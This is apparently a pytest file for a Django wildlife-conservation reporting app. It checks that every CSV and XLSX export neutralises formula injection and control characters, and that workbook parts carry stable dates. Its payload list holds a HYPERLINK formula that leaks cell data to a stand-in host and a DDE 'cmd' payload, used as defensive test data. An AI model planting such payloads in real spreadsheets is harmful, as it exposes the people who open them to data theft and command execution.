"""Every export keeps user text as text: no cell a spreadsheet would evaluate (formula injection, OWASP
"CSV Injection"), no control character that breaks the file (openpyxl refuses them, which made every XLSX
export answer 500).

Hostile text is put into every kind of user-entered field (narrative, source, titles, names, notes);
control characters are written with .update(), as data from before input refused them would be. The
exports are found by walking the URL conf, so that a new export cannot be added without being checked:
report URLs that end in .csv / .xlsx, and every API route whose view renders CSV and XLSX."""

import csv
import datetime
import io
import re
import time
import zipfile

import openpyxl
import pytest
import time_machine
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from activities import logframe_xlsx, offline_sheet, services
from activities.api.renderers import CSVRenderer, XLSXRenderer
from activities.exporting import FORMULA_PREFIXES, csv_cell, xlsx_append, xlsx_bytes
from activities.models import (
    Activity,
    Actor,
    Meeting,
    NationalActionPlan,
    Objective,
    ProgressEntry,
    RangeState,
    ReportingRound,
    Result,
    Species,
    Strategy,
    Theme,
    WorkProgrammeMeasure,
)
from tests.factories import FocalPointFactory, GrantFactory, SecretariatUserFactory

PL = "persian-leopard-2023-2032"
# Each payload carries a marker, so that the test can tell the data went through the export.
PAYLOADS = {
    "narrative": '=HYPERLINK("https://evil.example/?x="&A1,"Click") MARK-NARRATIVE',
    "source": "+SUM(1,1) MARK-SOURCE",
    "strategy": "-2+3 MARK-STRATEGY",
    "theme": "@SUM(1+1) MARK-THEME",
    "objective": "\t=1+1 MARK-OBJECTIVE",
    "result": "\r=1+1 MARK-RESULT",
    "activity": "=cmd|' /C calc'!A0 MARK-ACTIVITY",
    "indicator": "Camera traps\x01\x08 MARK-INDICATOR",
    "actor": "=1+1 MARK-ACTOR",
    "state": "Armenia\x1b MARK-STATE",
    "measure": "@A1 MARK-MEASURE",
    "round": "=2025 MARK-ROUND",
    "meeting": "=Vilm MARK-MEETING",
    "species": "+Panthera MARK-SPECIES",
    "plan": "=NAP MARK-PLAN",
    "grant": "@Grant MARK-GRANT",
}
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


@pytest.fixture
def hostile(seeded, settings):
    strategy = Strategy.objects.get(slug=PL)
    activity = Activity.objects.select_related("result__objective__theme").get(
        strategy=strategy, code="1.1.1.a"
    )
    armenia = RangeState.objects.get(iso_code="AM")
    focal = FocalPointFactory(range_state=armenia).user
    reviewer = SecretariatUserFactory()
    reporting_round = services.reporting_round_open(
        user=reviewer,
        strategy=strategy,
        name="2025 annual",
        opens_on=datetime.date(2025, 1, 1),
        deadline=datetime.date(2026, 12, 31),
    )
    entry = services.progress_entry_create(
        user=focal,
        activity=activity,
        range_state=armenia,
        reporting_date=datetime.date(2025, 6, 30),
        status="in_progress",
        narrative=PAYLOADS["narrative"],  # formulas are legitimate text: input accepts them
        source=PAYLOADS["source"],
        reporting_round=reporting_round,
    )
    services.progress_entry_submit(user=focal, entry=entry)
    services.progress_entry_approve(user=reviewer, entry=entry)
    meeting = Meeting.objects.get(slug="cami-technical-workshop-vilm-2025")
    snapshot = services.meeting_snapshot_take(user=reviewer, meeting=meeting, strategy=strategy)
    # a national report, so the national-report list exports its round and Range State (hostile below)
    services.national_report_save(
        user=focal, reporting_round=reporting_round, range_state=armenia, expected_version=0, prepared_by="-"
    )
    # What input would refuse (control characters) is written directly, as older data would hold it.
    Strategy.objects.filter(pk=strategy.pk).update(
        title=PAYLOADS["strategy"], short_name=PAYLOADS["strategy"]
    )
    Theme.objects.filter(pk=activity.result.objective.theme_id).update(title=PAYLOADS["theme"])
    Objective.objects.filter(pk=activity.result.objective_id).update(text=PAYLOADS["objective"])
    Result.objects.filter(pk=activity.result_id).update(text=PAYLOADS["result"])
    Activity.objects.filter(pk=activity.pk).update(text=PAYLOADS["activity"], indicator=PAYLOADS["indicator"])
    for n, actor in enumerate(activity.actors.all()):
        Actor.objects.filter(pk=actor.pk).update(
            name=f"{PAYLOADS['actor']} {n}", description=PAYLOADS["actor"]
        )
    RangeState.objects.filter(pk=armenia.pk).update(name=PAYLOADS["state"])
    WorkProgrammeMeasure.objects.filter(pk__in=activity.cami_pow_measures.values("pk")).update(
        title=PAYLOADS["measure"]
    )
    ReportingRound.objects.filter(pk=reporting_round.pk).update(name=PAYLOADS["round"])
    Meeting.objects.filter(pk=meeting.pk).update(name=PAYLOADS["meeting"])
    Species.objects.update(common_name=PAYLOADS["species"])
    for plan in NationalActionPlan.objects.all():
        NationalActionPlan.objects.filter(pk=plan.pk).update(title=f"{PAYLOADS['plan']} {plan.pk}")
    GrantFactory(title=PAYLOADS["grant"])
    ProgressEntry.objects.filter(pk=entry.pk).update(
        narrative=PAYLOADS["narrative"] + "\x0b\x0c\x7f", source=PAYLOADS["source"] + "\x02"
    )
    return {"strategy": strategy, "round": reporting_round, "snapshot": snapshot}


# How to call each report's export so that it has data; a report missing here fails the test.
def report_query(name: str, w) -> str:
    query = f"?strategy={PL}"
    extra = {
        "national": f"&range_state=AM&reporting_round={w['round'].pk}",
        "snapshots": f"&before={w['snapshot'].pk}",
        "reporting-rate": f"&reporting_round={w['round'].pk}",
    }
    return query + extra.get(name, "")


def _walk(patterns, namespace=None, prefix=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            if pattern.namespace != "admin":
                yield from _walk(
                    pattern.url_patterns, pattern.namespace or namespace, prefix + str(pattern.pattern)
                )
        elif isinstance(pattern, URLPattern):
            yield namespace, pattern, prefix + str(pattern.pattern)


def export_urls(client, w) -> list[list[str]]:
    """Every export the URL conf has, as groups of URLs to fetch: a report's XLSX; its CSV, once per
    table its page offers; an API list's CSV; its XLSX. Each group must carry the hostile text."""
    groups = []
    for namespace, pattern, route in _walk(get_resolver().url_patterns):
        view = getattr(pattern.callback, "view_class", None) or getattr(pattern.callback, "cls", None)
        renderers = set(getattr(view, "renderer_classes", ()))
        if "csv|xlsx" in route:  # a report export: <name>.(csv|xlsx)
            name = pattern.name.removesuffix("-export")
            query = report_query(name, w)
            page = client.get(reverse(f"{namespace}:{name}") + query).content.decode()
            tables = sorted(set(re.findall(r"table=([\w-]+)", page)))
            csv_url = reverse(f"{namespace}:{pattern.name}", args=["csv"]) + query
            groups.append([reverse(f"{namespace}:{pattern.name}", args=["xlsx"]) + query])
            # without ?table= the CSV is the report's first table
            groups.append([csv_url, *(f"{csv_url}&table={table}" for table in tables)])
        elif {CSVRenderer, XLSXRenderer} & renderers:
            assert {CSVRenderer, XLSXRenderer} <= renderers, route
            kwargs = dict.fromkeys(pattern.pattern.regex.groupindex, PL)
            if set(kwargs) - {"strategy_slug"}:
                continue  # a detail route: the same renderers as its list, which is checked
            base = reverse(f"{namespace}:{pattern.name}", kwargs=kwargs)
            groups += [[f"{base}?format=csv"], [f"{base}?format=xlsx"]]
    return groups


def _cells(response) -> list[tuple[str, object, str | None]]:
    """(where, value, openpyxl data type or None for CSV) for every cell of the export."""
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if content.startswith(b"PK\x03\x04"):
        book = openpyxl.load_workbook(io.BytesIO(content))
        return [
            (f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
            for sheet in book
            for row in sheet.iter_rows()
            for cell in row
            if cell.value is not None
        ]
    text = content.decode("utf-8-sig")
    return [
        (f"row {r} col {c}", value, None)
        for r, row in enumerate(csv.reader(io.StringIO(text, newline="")))
        for c, value in enumerate(row)
    ]


def test_every_export_keeps_hostile_text_as_text(client, hostile):
    groups = export_urls(client, hostile)
    assert len(groups) >= 2 * (9 + 9 + 4)  # 9 reports, 9 API lists and 4 strategy-nested lists
    for group in groups:
        markers = 0
        for url in group:
            response = client.get(url)
            assert response.status_code == 200, url
            for where, value, data_type in _cells(response):
                assert data_type != "f", f"{url} {where}: a formula cell: {value!r}"
                if not isinstance(value, str):
                    continue
                markers += "MARK-" in value
                assert not CONTROL.search(value), f"{url} {where}: a control character in {value!r}"
                if data_type is None and value.startswith(FORMULA_PREFIXES):
                    assert NUMBER.match(value), f"{url} {where}: a live formula in the CSV: {value!r}"
        assert markers, f"{group}: no hostile text reached this export; give it data that does"


def test_the_payloads_reach_the_named_exports_neutralised(client, hostile):
    query = report_query("national", hostile)
    response = client.get(reverse("reporting:national-export", args=["csv"]) + query)
    text = response.content.decode("utf-8-sig")
    assert "'" + PAYLOADS["narrative"] + "\ufffd\ufffd\ufffd" in list(csv.reader(io.StringIO(text)))[1]
    response = client.get(reverse("reporting:national-export", args=["xlsx"]) + query)
    values = {value for _, value, _ in _cells(response)}
    assert PAYLOADS["narrative"] + "\ufffd\ufffd\ufffd" in values  # a text cell needs no apostrophe
    response = client.get(reverse("api:progress-list") + "?format=csv")  # streamed
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[0]["narrative"] == "'" + PAYLOADS["narrative"] + "\ufffd\ufffd\ufffd"
    assert rows[0]["source"] == "'" + PAYLOADS["source"] + "\ufffd"


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_starting_like_a_formula_get_an_apostrophe(prefix):
    assert csv_cell(f"{prefix}1+1") == f"'{prefix}1+1"
    assert csv_cell(f"a{prefix}1") == f"a{prefix}1"
    assert csv_cell(-5) == -5  # numbers stay numbers


def test_xlsx_text_is_a_text_cell_and_control_characters_are_replaced():
    book = openpyxl.Workbook()
    xlsx_append(book.active, ["=1+1", "a\x00b\x1fc\td", 3])
    a, b, c = book.active[1]
    assert (a.value, a.data_type) == ("=1+1", "s")
    assert b.value == "a\ufffdb\ufffdc\td"
    assert (c.value, c.data_type) == (3, "n")


def _part_dates(content: bytes) -> set[tuple]:
    return {part.date_time for part in zipfile.ZipFile(io.BytesIO(content)).infolist()}


def test_every_xlsx_is_dated_by_the_clock_in_every_part(client, hostile):
    """openpyxl dates worksheets by their temporary file's modification time, other parts by the clock: the
    same export at the same moment differed in its worksheets' dates, so an export job's file was not the
    file the request would have downloaded (tests/exports/test_jobs.py failed when the two straddled a
    second). Every XLSX the app writes (report and API exports, found by walking the URL conf; the
    logframe; the offline progress sheet) has every part dated by the clock."""
    moment = datetime.datetime(2026, 12, 2, 4, 30, 10, tzinfo=datetime.UTC)
    expected = {time.localtime(moment.timestamp())[:6]}
    armenia = RangeState.objects.get(iso_code="AM")
    with time_machine.travel(moment, tick=False):
        contents = {
            "logframe": logframe_xlsx.logframe_workbook(hostile["strategy"]),
            "offline sheet": offline_sheet.build_workbook(
                reporting_round=hostile["round"],
                range_state=armenia,
                user=FocalPointFactory(range_state=armenia).user,
            ),
        }
        for group in export_urls(client, hostile):
            if "xlsx" in group[0]:
                response = client.get(group[0])
                assert response.status_code == 200, group[0]
                contents[group[0]] = response.content
    assert len(contents) >= 2 + 9 + 9 + 4
    for where, content in contents.items():
        assert _part_dates(content) == expected, where


def test_the_same_workbook_saved_twice_is_the_same_file():
    book = openpyxl.Workbook()
    xlsx_append(book.active, ["a", 1])
    book.create_sheet("second")
    with time_machine.travel(datetime.datetime(2026, 12, 2, 4, 30, 10, tzinfo=datetime.UTC), tick=False):
        first = xlsx_bytes(book)
        time.sleep(2.1)  # the worksheets' temporary files are written 2 s later, as the clock really runs
        second = xlsx_bytes(book)
    assert first == second
    assert [row for row in openpyxl.load_workbook(io.BytesIO(first)).active.values] == [("a", 1)]
